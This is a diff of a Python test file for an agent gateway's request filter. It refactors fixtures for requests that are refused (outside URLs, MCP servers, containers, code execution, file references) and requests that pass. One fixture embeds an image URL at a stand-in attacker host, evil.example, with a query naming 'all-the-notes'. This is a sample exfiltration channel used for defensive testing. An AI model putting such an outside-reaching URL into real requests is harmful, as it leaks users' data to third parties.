@@ -13,6 +13,12 @@ from parachuted.agents.gateway.message_request import RequestRefusedError, read_
 MODEL = "claude-haiku-4-5"
 PLAIN = {"model": MODEL, "max_tokens": 100, "messages": [{"role": "user", "content": "hi"}]}
 SENT = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?all-the-notes"}}
+
+
+def said(part, role="user"):
+    return {"messages": [{"role": role, "content": [part]}]}
+
+
 REACHING = [
     {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]},
     {"container": "container_011CPR5CNjB747bTd36fQLFk"},
@@ -21,75 +27,22 @@ REACHING = [
     {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
     {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
     {"tools": [{"type": ["custom"], "name": "x"}]},
-    {"messages": [{"role": "user", "content": [SENT]}]},
-    {
-        "messages": [
-            {
-                "role": "user",
-                "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}],
-            }
-        ]
-    },
-    {
-        "messages": [
-            {
-                "role": "user",
-                "content": [{"type": "tool_result", "tool_use_id": "t", "content": [SENT]}],
-            }
-        ]
-    },
-    {
-        "messages": [
-            {
-                "role": "user",
-                "content": [{"type": "document", "source": {"type": "content", "content": [SENT]}}],
-            }
-        ]
-    },
-    {
-        "messages": [
-            {"role": "user", "content": [{"type": "container_upload", "file_id": "file_1"}]}
-        ]
-    },
+    said(SENT),
+    said({"type": "document", "source": {"type": "file", "file_id": "file_1"}}),
+    said({"type": "tool_result", "tool_use_id": "t", "content": [SENT]}),
+    said({"type": "document", "source": {"type": "content", "content": [SENT]}}),
+    said({"type": "container_upload", "file_id": "file_1"}),
     {"system": [SENT]},
 ]
+OF_URL = {"properties": {"source": {"type": "url"}}}
+CALL = {"type": "tool_use", "id": "t", "name": "x", "input": {"source": SENT["source"]}}
+SEARCH = {"type": "tool_search_tool_regex_20251119", "name": "tool_search"}
 PASSING = [
     {},
-    {
-        "tools": [
-            {"name": "x", "input_schema": {"properties": {"source": {"type": "url"}}}},
-            {"type": "custom", "name": "y"},
-        ]
-    },
-    {
-        "tools": [
-            {"type": "bash_20250124", "name": "bash"},
-            {"type": "tool_search_tool_regex_20251119", "name": "tool_search"},
-        ]
-    },
-    {
-        "messages": [
-            {
-                "role": "user",
-                "content": [{"type": "image", "source": {"type": "base64", "data": "x"}}],
-            }
-        ]
-    },
-    {
-        "messages": [
-            {
-                "role": "assistant",
-                "content": [
-                    {
-                        "type": "tool_use",
-                        "id": "t",
-                        "name": "x",
-                        "input": {"source": SENT["source"]},
-                    }
-                ],
-            }
-        ]
-    },
+    {"tools": [{"name": "x", "input_schema": OF_URL}, {"type": "custom", "name": "y"}]},
+    {"tools": [{"type": "bash_20250124", "name": "bash"}, SEARCH]},
+    said({"type": "image", "source": {"type": "base64", "data": "x"}}),
+    said(CALL, role="assistant"),
     {"mcp_servers": []},
 ]
 
